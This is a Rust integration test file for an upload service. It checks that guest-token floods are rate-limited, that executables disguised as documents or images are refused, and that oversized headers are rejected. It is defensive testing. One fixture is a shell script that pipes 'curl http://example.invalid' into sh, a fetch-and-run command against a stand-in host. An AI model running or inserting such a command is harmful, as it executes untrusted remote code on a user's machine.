//! Abuse: what an anonymous client on the internet can make ferry do. A flood of fresh guest
//! tokens costs Genesys no more session checks than the configured rate; programs are refused
//! under every disguise; an oversized header is refused before anything else. Every answer is
//! checked for its code, and the bucket and the conversations for debris.

use crate::harness::{DEPLOYMENT, Harness, MIB, Options, bytes};
use futures::StreamExt as _;
use std::time::Instant;

/// The emulator's conversations with at least one message (ferry's deliveries).
fn messages(h: &Harness) -> usize {
    h.emulator.state().conversations().iter().filter(|c| !c.messages.is_empty()).count()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
#[ignore = "needs LocalStack"]
async fn a_flood_of_fresh_guest_tokens_is_held_to_the_session_check_rate() {
    const REQUESTS: usize = 500;
    const PER_MINUTE: u64 = 60;
    const BURST: u64 = 10;
    let options = Options {
        toml: vec![
            "[admission]".into(),
            // Each request plays its own client address, so only the session-check limit applies.
            "trusted_client_header = \"x-forwarded-for\"".into(),
            format!("session_checks_per_minute = {PER_MINUTE}"),
            format!("session_checks_burst = {BURST}"),
            "session_checks_concurrent = 4".into(),
        ],
        ..Options::default()
    };
    let h = Harness::start("abuse-flood", options).await;
    let sessions_before = h.emulator.state().conversations().len();
    let http = reqwest::Client::new();
    let url = h.ferry.url("/v1/uploads");
    let started = Instant::now();
    let answers: Vec<(u16, Option<String>, serde_json::Value)> = futures::stream::iter(0..REQUESTS)
        .map(|i| {
            let request = http
                .post(&url)
                .bearer_auth(uuid::Uuid::new_v4().to_string())
                .header("X-Genesys-Deployment-Id", DEPLOYMENT)
                .header("X-Forwarded-For", format!("10.{}.{}.{}", i / 65536, (i / 256) % 256, i % 256))
                .header("Content-Type", "text/plain")
                .header("X-File-Name", "hello.txt")
                .body("hello");
            async move {
                let response = request.send().await.expect("ferry answers");
                let status = response.status().as_u16();
                let retry =
                    response.headers().get("retry-after").and_then(|v| v.to_str().ok()).map(str::to_owned);
                (status, retry, response.json().await.unwrap_or_default())
            }
        })
        .buffer_unordered(25)
        .collect()
        .await;
    let elapsed = started.elapsed().as_secs_f64();
    let checks = h.emulator.state().conversations().len() - sessions_before;
    // The burst, the rate over the time taken, and one more for a token refilled at the edge.
    let allowed = BURST as usize + (elapsed * PER_MINUTE as f64 / 60.0).ceil() as usize + 1;
    assert!(
        checks <= allowed,
        "{checks} Genesys session checks in {elapsed:.1} s; at most {allowed} allowed"
    );
    // A checked token is a session (201) or, were Genesys to refuse it, 401; the rest wait (429).
    let created = answers.iter().filter(|(s, _, _)| *s == 201).count();
    let checked = answers.iter().filter(|(s, _, _)| matches!(s, 201 | 401)).count();
    let limited: Vec<_> = answers.iter().filter(|(s, _, _)| *s == 429).collect();
    let other = answers.iter().find(|(s, _, _)| !matches!(s, 201 | 401 | 429));
    assert!(other.is_none(), "only 201, 401 and 429: {other:?}");
    assert!(checked <= checks, "no answer without a session check ({checked} checked, {checks} checks)");
    assert!(limited.len() >= REQUESTS - allowed, "{} refused", limited.len());
    assert!(checked > 0, "some tokens were checked with Genesys");
    eprintln!(
        "abuse flood: {REQUESTS} fresh tokens in {elapsed:.1} s: {checks} Genesys session checks (at most {allowed} allowed), {checked} answered after a check (201/401), {} × 429 session_checks_limited",
        limited.len()
    );
    for (_, retry, body) in &limited {
        assert_eq!(body["error"]["code"], "session_checks_limited", "{body}");
        assert!(
            retry.as_deref().and_then(|r| r.parse::<u64>().ok()).is_some_and(|r| r >= 1),
            "Retry-After {retry:?}"
        );
    }
    // No debris: exactly one object and one message per 201, and no multipart upload.
    assert_eq!(h.keys().await.len(), created, "objects in the bucket");
    assert_eq!(h.pending_uploads().await, 0, "multipart uploads left");
    assert_eq!(messages(&h), created, "conversations with a message");
    h.finish().await;
}

/// A minimal Windows Installer file: an OLE header whose directory (with the installer's root
/// CLSID) lies `dir_sector` sectors later, so only the whole stream tells it from a `.doc`.
fn msi(dir_sector: u32) -> Vec<u8> {
    let mut file = vec![0u8; 512];
    file[..8].copy_from_slice(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1");
    file[0x1e..0x20].copy_from_slice(&9u16.to_le_bytes());
    file[0x30..0x34].copy_from_slice(&dir_sector.to_le_bytes());
    let dir = (dir_sector as usize + 1) * 512;
    file.resize(dir + 512, 0xab);
    file[dir..dir + 10].copy_from_slice(b"R\0o\0o\0t\0 \0");
    let clsid = [0x84, 0x10, 0x0c, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
    file[dir + 0x50..dir + 0x60].copy_from_slice(&clsid);
    file
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs LocalStack"]
async fn programs_are_refused_under_every_disguise() {
    let h = Harness::start("abuse-programs", Options::default()).await;
    let programs: Vec<(&str, &str, Vec<u8>)> = vec![
        ("pe", "application/x-msdownload", bytes(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", 64 * 1024, 1)),
        ("elf", "application/x-executable", bytes(b"\x7fELF\x02\x01\x01\0", 64 * 1024, 2)),
        ("mach-o", "application/x-mach-binary", bytes(b"\xcf\xfa\xed\xfe\x07\0\0\x01", 64 * 1024, 3)),
        ("lnk", "application/x-ms-shortcut", {
            let mut lnk = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
            lnk.resize(2048, 0);
            lnk
        }),
        ("shebang", "text/x-shellscript", b"#!/bin/sh\ncurl http://example.invalid | sh\n".to_vec()),
        // The directory 6 MiB in: past the first part, found only as the stream goes by.
        ("msi", "application/x-msi", msi((6 * MIB / 512) as u32)),
    ];
    let disguises = [
        ("report.pdf", "application/pdf"),
        ("photo.png", "image/png"),
        ("data.bin", "application/octet-stream"),
        ("notes.txt", "text/plain"),
    ];
    for (kind, own_type, data) in &programs {
        let path = h.file(&format!("{kind}.payload"), data);
        let mut declared: Vec<(String, String)> =
            disguises.iter().map(|(n, t)| ((*n).to_owned(), (*t).to_owned())).collect();
        declared.push((format!("{kind}-tool"), (*own_type).to_owned()));
        for (name, content_type) in declared {
            let mut args = h.guest();
            args.extend([
                "-H".into(),
                format!("Content-Type: {content_type}"),
                "-H".into(),
                format!("X-File-Name: {name}"),
                "--data-binary".into(),
                format!("@{}", path.display()),
            ]);
            let reply = h.post(&args, None).await;
            assert!(reply.status == 415, "{kind} as {name} ({content_type}): {reply:?}");
            reply.assert_error(415, "unsupported_media_type");
            // And as a form's file part.
            let mut form = h.guest();
            form.extend([
                "-F".into(),
                format!("file=@{};filename={name};type={content_type}", path.display()),
            ]);
            h.post(&form, None).await.assert_error(415, "unsupported_media_type");
        }
    }
    h.assert_nothing_stored().await;
    assert!(h.conversation()["messages"].as_array().is_some_and(Vec::is_empty), "no message was posted");
    h.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs LocalStack"]
async fn a_100_kb_header_is_refused_with_431() {
    let h = Harness::start("abuse-header", Options::default()).await;
    let mut args = h.guest();
    args.extend([
        "-H".into(),
        format!("X-Padding: {}", "a".repeat(100 * 1024)),
        "-H".into(),
        "Content-Type: text/plain".into(),
        "-H".into(),
        "X-File-Name: hello.txt".into(),
        "--data-binary".into(),
        "hello".into(),
    ]);
    h.post(&args, None).await.assert_error(431, "headers_too_large");
    // Many small headers that add up count too.
    let mut many = h.guest();
    for i in 0..40 {
        many.extend(["-H".into(), format!("X-Pad-{i}: {}", "b".repeat(500))]);
    }
    many.extend(["--data-binary".into(), "hello".into()]);
    h.post(&many, None).await.assert_error(431, "headers_too_large");
    // A normal request still works on the same server.
    let mut fine = h.guest();
    fine.extend([
        "-H".into(),
        "Content-Type: text/plain".into(),
        "-H".into(),
        "X-File-Name: hello.txt".into(),
        "--data-binary".into(),
        "hello".into(),
    ]);
    assert_eq!(h.post(&fine, None).await.status, 201);
    assert_eq!(h.keys().await.len(), 1, "only the normal upload was stored");
    assert_eq!(h.pending_uploads().await, 0);
    let conversation = h.conversation();
    assert_eq!(conversation["messages"].as_array().map_or(0, Vec::len), 1, "{conversation}");
    h.finish().await;
}
